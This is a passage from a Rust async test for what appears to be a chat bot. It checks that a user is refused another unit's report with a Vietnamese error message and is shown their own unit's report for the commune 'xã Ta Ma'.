    assert_eq!(chair.callback_answer(&query).await, t(Lang::Vi, "err-report-not-yours"));
    // Their own unit's report is shown.
    chair.press_data(&help.json, &format!("v:{}", tama.id.0));
    assert!(chair.next_text().await.contains("xã Ta Ma"));
}
